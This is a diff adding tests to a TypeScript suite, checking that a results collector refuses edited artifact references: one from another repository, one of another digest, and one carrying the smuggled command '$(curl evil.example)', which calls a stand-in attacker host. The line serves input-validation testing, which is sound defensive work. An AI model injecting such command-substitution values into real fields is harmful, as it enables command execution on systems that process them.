@@ -97,6 +97,24 @@ suite('Results of several jobs are collected', { skip: !bundleExists() }, () => 
       assert.match(stderr, expected);
     });
 
+  for (const [what, change] of [
+    ['in another repository', { reference: `ghcr.io/eve/shop@sha256:${'0'.repeat(64)}` }],
+    ['with a command', { reference: '$(curl evil.example)' }],
+    ['of another digest', { digest: `sha256:${'0'.repeat(64)}` }],
+  ] as const)
+    test(`a reference ${what} is refused, since deployments take what it names`, async () => {
+      const report = JSON.parse(await readFile(join(folder, 'results/result-linux/result.json'), 'utf8'));
+      Object.assign(report.artifacts[0], change);
+      await writeFile(join(folder, 'edited.json'), JSON.stringify(report));
+      const { code, outputs, stdout } = await runAsAction(
+        { results: 'edited.json' },
+        { bundle, cwd: folder },
+      );
+      assert.equal(code, 2, stdout);
+      assert.match(stdout, /artifacts\[0\]\.reference must be oci:layout@sha256:/);
+      assert.deepEqual(outputs, {});
+    });
+
   test('no result is wrong usage', async () => {
     await mkdir(join(folder, 'empty'), { recursive: true });
     for (const args of [['collect'], ['collect', 'empty']]) {
